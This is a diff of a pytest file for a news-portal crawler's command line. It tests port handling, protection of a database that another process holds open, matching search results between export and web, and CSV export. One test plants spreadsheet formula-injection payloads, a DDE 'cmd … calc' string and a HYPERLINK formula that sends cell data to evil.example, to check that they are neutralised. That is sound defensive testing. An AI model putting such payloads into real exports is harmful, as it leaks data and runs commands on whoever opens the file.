@@ -1,15 +1,21 @@
-"""The command line of CONTRACT.md, run as a user runs it (fresh processes)."""
+"""The command line of docs/CONTRACT.md, run as a user runs it (fresh processes)."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import re
 import io
 import json
 import shutil
+import socket
 import sqlite3
 import subprocess
 import sys
+import time
 from pathlib import Path
+from urllib.parse import urlencode
+
+import pytest
 
 from archive.fold import fold
 from tests.conftest import REPO, cli
@@ -124,14 +130,114 @@ def test_scrapy_crawl_command_works_too(sample_portals, tmp_path):
     assert count >= 5
 
 
-def test_demo_crawls_sample_portals(tmp_path):
+def test_demo_crawls_sample_portals_twice_with_an_edit_and_a_deletion(tmp_path):
     db = tmp_path / "demo.db"
     result = cli("demo", "--db", str(db), "--no-serve")
-    assert "sample portals" in result.stdout
+    assert "sample portals" in result.stdout and "round 2" in result.stdout
     conn = sqlite3.connect(db)
     assert conn.execute("select count(*) from portals").fetchone()[0] >= 4
     assert conn.execute("select count(distinct cms) from articles").fetchone()[0] >= 4  # CMS families detected
     assert conn.execute("select count(*) from articles").fetchone()[0] >= 40
+    assert conn.execute("select count(*) from article_versions").fetchone()[0] >= 1
+    assert conn.execute("select count(*) from articles where deleted_at is not null").fetchone()[0] >= 1
+    newest = conn.execute("select max(substr(published_at, 1, 10)) from articles").fetchone()[0]
+    assert newest >= (dt.date.today() - dt.timedelta(days=3)).isoformat()  # fresh relative to today
+    attention = conn.execute("select count(distinct portal_id) from portals_needing_attention").fetchone()[0]
+    assert attention == 1  # one quiet portal; the others are healthy
+
+
+def test_demo_and_serve_say_when_the_port_is_busy(tmp_path, crawled):
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen(1)
+        port = str(taken.getsockname()[1])
+        started = time.monotonic()
+        demo = cli("demo", "--db", str(tmp_path / "d.db"), "--port", port, check=False, timeout=60)
+        assert demo.returncode != 0 and "cannot listen" in demo.stderr and "--port" in demo.stderr
+        assert time.monotonic() - started < 30  # before crawling, not after
+        assert not (tmp_path / "d.db").exists()
+        serve = cli("serve", "--db", str(crawled[0]), "--port", port, check=False, timeout=60)
+        assert serve.returncode != 0 and "cannot listen" in serve.stderr
+
+
+def test_serve_port_zero_picks_a_free_port(crawled):
+    process = subprocess.Popen([sys.executable, "-m", "crawler", "serve", "--db", str(crawled[0]), "--port", "0"],
+                               cwd=REPO, stdout=subprocess.PIPE, text=True)
+    try:
+        line = process.stdout.readline()
+        port = int(re.search(r":(\d+)/", line)[1])
+        assert port > 0
+        from urllib.request import urlopen
+
+        for _ in range(50):
+            try:
+                assert urlopen(f"http://127.0.0.1:{port}/", timeout=5).status == 200
+                break
+            except OSError:
+                time.sleep(0.2)
+        else:
+            raise AssertionError("nothing served on the port it named")
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
+
+
+def test_demo_never_deletes_an_archive_another_process_has_open(tmp_path):
+    db = tmp_path / "busy.db"
+    setup = sqlite3.connect(db)
+    setup.execute("create table kept (x)")
+    setup.close()
+    holder = subprocess.Popen([sys.executable, "-c", "import sqlite3, sys, time; c = sqlite3.connect(sys.argv[1]); "
+                               "c.execute('select * from kept').fetchall(); print('open', flush=True); time.sleep(60)",
+                               str(db)], stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "open"
+        result = cli("demo", "--db", str(db), "--no-serve", check=False)
+        assert result.returncode != 0 and "is open in process" in result.stderr and str(holder.pid) in result.stderr
+        assert sqlite3.connect(db).execute("select count(*) from sqlite_master where name = 'kept'").fetchone()[0] == 1
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+def test_export_search_language_is_the_web_search(crawled, tmp_path):
+    import asyncio
+
+    from datasette_config.app import make_datasette
+
+    db = crawled[0]
+    for query in ('"dang uy"', "dang OR uy", "dang -uy", "Đảng ủy", "thuy*"):
+        exported = [json.loads(line)["id"] for line in
+                    cli("export", "--db", str(db), "--search", query, "--format", "jsonl").stdout.splitlines()]
+
+        async def web():
+            response = await make_datasette(db).client.get("/search.csv?" + urlencode({"q": query, "sort": "newest"}))
+            return [int(r["id"]) for r in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")))]
+
+        assert exported == asyncio.run(web()), query
+    assert len(cli("export", "--db", str(db), "--search", '"dang uy"', "--format", "jsonl").stdout.splitlines()) < \
+        len(cli("export", "--db", str(db), "--search", "dang uy", "--format", "jsonl").stdout.splitlines())
+    bad = cli("export", "--db", str(db), "--search", "-uy", check=False)
+    assert bad.returncode == 2 and "at least one word" in bad.stderr
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_csv_neutralises_formulas(tmp_path, start):
+    from archive.store import Archive
+
+    db = tmp_path / "formula.db"
+    arc = Archive(db)
+    portal = arc.upsert_portal({"url": "http://x.example.vn/", "name": start + "cmd|' /C calc'!A0"})
+    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"bấm")'
+    arc.save_article({"url": "http://x.example.vn/tin/1", "title": payload, "text": "Nội dung.\n" + payload,
+                      "author": start + "1+1"}, portal_id=portal, seen_at="2025-01-01T00:00:00+00:00")
+    arc.close()
+    out = tmp_path / "out.csv"
+    cli("export", "--db", str(db), "-o", str(out))
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    assert rows[0]["title"] == "'" + payload and rows[0]["author"] == "'" + start + "1+1"
+    assert rows[0]["portal_name"].startswith("'" + start)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())
 
 
 def test_dedupe_rebuild_gives_the_crawls_clusters(crawled, tmp_path):
